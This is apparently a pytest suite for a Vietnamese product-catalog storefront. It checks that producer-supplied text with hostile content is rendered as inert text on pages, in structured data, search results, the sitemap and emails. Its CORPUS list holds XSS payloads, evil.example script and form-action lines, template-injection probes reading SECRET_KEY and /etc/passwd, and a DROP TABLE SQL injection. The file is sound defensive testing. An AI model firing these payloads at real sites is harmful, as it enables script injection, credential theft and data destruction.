"""What a producer writes stays text wherever it is shown: on pages, in their heads, to search engines, in letters.

A page with a hostile text has to have exactly the elements and attributes of the same page with a harmless one.
"""

import json
from typing import Any
from xml.etree import ElementTree

import html5lib
import pytest
from flask import Flask
from sqlalchemy import select, update

from catalog import sequence
from catalog.certificates import Certificate
from catalog.db import db
from catalog.outlets import Outlet
from catalog.producers import Producer
from catalog.products import Photo, Product, ProductKind, Variant
from storefront import indexing, worker
from tests.conftest import LetterBox
from tests.pages import Page, PageClient
from tests.storefront.shop.buying import add, delivered
from tests.world import World, changing, make_outlet, make_producer, make_product

pytestmark = pytest.mark.parametrize("engine_name", ["sqlite"], indirect=True)

HARMLESS = "Mật ong hoa tràm"
CORPUS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</h1></main></body></html><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    "<!--<script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onmouseover=alert(1) `",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    "<img/src=x/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<form action=//evil.example><input name=password>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=//evil.example/x.swf></object>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "{{ 7 * 7 }}{{ config.SECRET_KEY }}",
    "{% include '/etc/passwd' %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62; &quot; &amp;amp;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\"},\"name\":\"x\",\"y\":{\"z\":\"",
    "javascript:alert(1)//",
    "＜script＞alert(1)＜/script＞",
    "<ｓcript>alert(1)</ｓcript>",
    "\u202e<tpircs>\u202c",
    "'; DROP TABLE products; --",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)  # fmt: skip
assert len(set(CORPUS)) == len(CORPUS) >= 40
assert all(len(text) <= 160 for text in CORPUS)
OPENS = ("/", "http://localhost/", "http://127.0.0.1:8000/", "tel:", "mailto:", "#", "data:image/", "?", "https://schema.org", "https://www.google.com/maps")  # fmt: skip
PAGES = ("/san-pham/hang-{n}", "/chu-the/nha-{n}", "/chung-nhan/{n}-qd-thu", "/diem-ban/diem-{n}", "/san-pham/tour-{n}")


def say(text: str, n: int) -> None:
    """Everything that a producer, an outlet and a decision say in words, said like this."""
    maker = db.session.scalars(select(Producer).where(Producer.slug == f"nha-{n}")).one()
    both = {
        f"{name}_{lang}": text for name in ("name", "summary", "story_title", "story", "quote") for lang in ("vi", "en")
    }
    db.session.execute(update(Producer).where(Producer.id == maker.id).values(address_vi=text, **both))
    words = ("name", "summary", "description", "ingredients", "storage", "usage")
    both = {f"{name}_{lang}": text for name in words for lang in ("vi", "en")}
    ids = list(db.session.scalars(select(Product.id).where(Product.producer_id == maker.id)))
    db.session.execute(update(Product).where(Product.id.in_(ids)).values(**both))
    db.session.execute(update(Variant).where(Variant.product_id.in_(ids)).values(unit_vi=text[:60], unit_en=text[:60]))
    db.session.execute(update(Photo).where(Photo.product_id.in_(ids)).values(alt_vi=text, alt_en=text, credit=text))
    db.session.execute(update(Certificate).where(Certificate.product_id.in_(ids)).values(issuer_vi=text, note_vi=text))
    outlet = {"name_vi": text, "name_en": text, "address_vi": text, "note_vi": text}
    db.session.execute(update(Outlet).where(Outlet.slug == f"diem-{n}").values(**outlet))
    sequence.advance()


def furnish(n: int) -> None:
    """A maker with goods at an outlet of their own and a tour, all called harmlessly."""
    maker = make_producer(HARMLESS, slug=f"nha-{n}", email=f"nha-{n}@example.org")
    make_outlet(f"H{n}", slug=f"diem-{n}")
    goods = make_product(HARMLESS, slug=f"hang-{n}", producer=maker, free={"T01": 3, f"H{n}": 3}, season="11", stars=5)
    db.session.execute(
        update(Certificate).where(Certificate.product_id == goods.id).values(number=f"{n}/QĐ-THU", slug=f"{n}-qd-thu")
    )
    make_product(HARMLESS, slug=f"tour-{n}", producer=maker, group="6.1", stars=None, net=(1, "person"),
                 kind=ProductKind.TOUR)  # fmt: skip


def skeleton(tree: ElementTree.Element) -> list[tuple[str, tuple[str, ...]]]:
    """Every element with the names of its attributes, in order."""
    return [(str(element.tag), tuple(sorted(map(str, element.attrib)))) for element in tree.iter()]


def squeezed(text: str) -> str:
    return " ".join(text.replace("\u00a0", " ").split())


def assert_leads_nowhere_else(page: Page) -> None:
    for element in page.tree.iter():
        for name in ("href", "src", "action", "formaction", "poster", "data"):
            value = element.get(name)
            assert value is None or value == "" or value.startswith(OPENS), (element.tag, name, value)
        for part in (element.get("srcset") or "/").split(", "):
            assert part.startswith("/"), part


def facts_of(page: Page) -> list[dict[str, Any]]:
    return [json.loads(block.text or "") for block in page.all("script", type="application/ld+json")]


@pytest.fixture
def stage(app: Flask, world: World, client: PageClient) -> PageClient:
    """Number 1 is going to be hostile."""
    with changing(app):
        furnish(1)
    return client


def test_pages_of_a_hostile_producer_have_the_elements_of_a_harmless_one(app: Flask, stage: PageClient) -> None:
    addresses = [path.format(n=1) for path in PAGES]
    with changing(app):
        say(HARMLESS, 1)
    before = {path: skeleton(stage.get(path).tree) for path in addresses}
    for text in CORPUS:
        with changing(app):
            say(text, 1)
        for path in addresses:
            page = stage.get(path)
            assert skeleton(page.tree) == before[path], (path, text)
            assert squeezed(text) in page.text, (path, text)
            assert_leads_nowhere_else(page)
            if "/chung-nhan/" not in path:
                assert "".join(page.one("h1").itertext()) == text
                assert page.one("meta", name="description").get("content")


def test_heads_and_structured_data_say_the_text_itself(app: Flask, stage: PageClient) -> None:
    for text in CORPUS:
        with changing(app):
            say(text, 1)
        page = stage.get("/san-pham/hang-1")
        assert page.one("meta", name="description").get("content") == text
        title = page.one("title").text or ""
        assert title.startswith(text.split(" ")[0][:40])
        assert page.one("meta", property="og:title").get("content") == title
        (facts,) = facts_of(page)
        assert (facts["name"], facts["description"], facts["brand"]["name"]) == (text, text, text)
        assert facts["hasCertification"]["issuedBy"]["name"] == text
        assert facts["offers"][0]["name"] == text[:60]
        source = page.response.get_data(as_text=True)
        block = source.split('<script type="application/ld+json">')[1].split("</script>")[0]
        assert not set("<>&") & set(block)
        (maker,) = facts_of(stage.get("/chu-the/nha-1"))
        assert (maker["name"], maker["description"]) == (text, text)
        (outlet,) = facts_of(stage.get("/diem-ban/diem-1"))
        assert outlet["name"] == text


def test_lists_of_hostile_things_have_the_elements_of_harmless_ones(
    app: Flask, world: World, client: PageClient
) -> None:
    lists = ("/", "/san-pham", "/san-pham?trang=2", "/chu-the", "/diem-ban", "/nhom/thuc-pham", "/tim-kiem",
             "/xa-phuong/tam-ky", "/diem-ban/trung-tam-ocop-tam-ky", "/san-pham/mat-ong-rung", "/san-pham?tai=diem-1")  # fmt: skip
    lists = tuple(path for path in lists if client.raw.get(path).status_code == 200)
    with changing(app):
        for n, _ in enumerate(CORPUS, 1):
            furnish(n)
            say(f"{HARMLESS} {n}", n)
    before = {path: sorted(skeleton(client.get(path).tree)) for path in lists}
    with changing(app):
        for n, text in enumerate(CORPUS, 1):
            say(text, n)
    shown = ""
    for path in lists:
        page = client.get(path)
        assert sorted(skeleton(page.tree)) == before[path], path
        assert_leads_nowhere_else(page)
        shown += page.text
    assert all(squeezed(text) in shown for text in CORPUS)


def test_suggestions_and_searches_for_hostile_names_are_texts(app: Flask, world: World, client: PageClient) -> None:
    with changing(app):
        for n, text in enumerate(CORPUS, 1):
            furnish(n)
            say(text, n)
    with app.app_context():
        indexing.rebuild_now()
    named = set()
    for text in ("script", "img", "alert", "svg", "onerror", "javascript", *CORPUS):
        html = client.raw.get("/tim-kiem/goi-y", query_string={"q": text}).get_data(as_text=True)
        parser = html5lib.HTMLParser(html5lib.getTreeBuilder("etree"), namespaceHTMLElements=False)
        tree = parser.parseFragment(html)
        for element in tree.iter():
            assert element.tag in {"DOCUMENT_FRAGMENT", "li", "a", "span", "b", "mark", "ul"}, element.tag
            assert not [name for name in element.attrib if str(name).startswith("on")]
            named.add(squeezed("".join(element.itertext())))
        page = client.get("/tim-kiem", query_string={"q": text})
        assert_leads_nowhere_else(page)
        assert page.one("input", id="q").get("value") == squeezed(text) or "\t" in text
        assert not [s for s in page.all("script") if "alert" in (s.text or "") and s.get("type") is None]
    assert named & {squeezed(text) for text in CORPUS}


def test_the_sitemap_stays_well_formed(app: Flask, stage: PageClient) -> None:
    for text in CORPUS[:12]:
        with changing(app):
            say(text, 1)
        tree = ElementTree.fromstring(stage.raw.get("/sitemap.xml").get_data())
        assert {element.tag.split("}")[1] for element in tree.iter()} <= {"urlset", "url", "loc"}


def test_orders_and_letters_say_the_text_itself(
    app: Flask, world: World, client: PageClient, letters: LetterBox
) -> None:
    with changing(app):
        for n, text in enumerate(CORPUS[:24], 1):
            furnish(n)
            say(text, n)
    with app.app_context():
        products = {p.slug: p for p in db.session.scalars(select(Product).where(Product.slug.like("hang-%")))}
    for n in range(1, 25):
        add(client, app, products[f"hang-{n}"])
    assert_leads_nowhere_else(client.get("/gio-hang"))
    page = client.post("/thanh-toan", delivered(client, payment="bank_transfer", email="thu@example.com"))
    assert_leads_nowhere_else(page)
    assert all(squeezed(text) in page.text for text in CORPUS[:24])
    client.get("/san-pham/tour-1")
    form = client.get("/san-pham/tour-1").form("/san-pham/tour-1/hoi-dat-cho")
    asked = {"name": CORPUS[0], "phone": "0905123456", "day": "2026-12-24", "people": "2", "note": CORPUS[18]}
    client.post("/san-pham/tour-1/hoi-dat-cho", form | asked)
    with app.app_context():
        while worker.work_once():
            pass
    assert len(letters.letters) == 3
    for letter in letters.letters:
        tree = html5lib.parse(letter.html, treebuilder="etree", namespaceHTMLElements=False)
        assert not {"script", "img", "svg", "iframe", "form", "input", "base", "link", "object"} & {
            e.tag for e in tree.iter()
        }
        assert not [name for e in tree.iter() for name in e.attrib if str(name).startswith("on")]
        assert {e.get("href", "").split(":")[0] for e in tree.iter("a")} <= {"http", "tel", "mailto"}
        words = squeezed("".join(tree.itertext()))
        said = CORPUS[:24] if "Đơn" in letter.subject else (CORPUS[0], CORPUS[18])
        assert all(squeezed(text) in words for text in said)
        assert all(squeezed(text) in squeezed(letter.text) for text in said)
